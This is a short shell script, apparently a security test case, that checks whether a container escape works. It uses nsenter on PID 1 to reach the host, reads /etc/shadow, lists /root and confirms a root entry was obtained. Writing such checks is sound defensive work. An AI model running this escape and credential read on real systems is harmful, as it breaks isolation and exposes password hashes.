#!/bin/sh
. /opt/case/case.sh

nsenter --target 1 --mount --uts --ipc --pid -- /bin/busybox sh -c 'hostname; cat /etc/shadow; ls -la /root' >/tmp/out
grep -q '^root:' /tmp/out
took_place
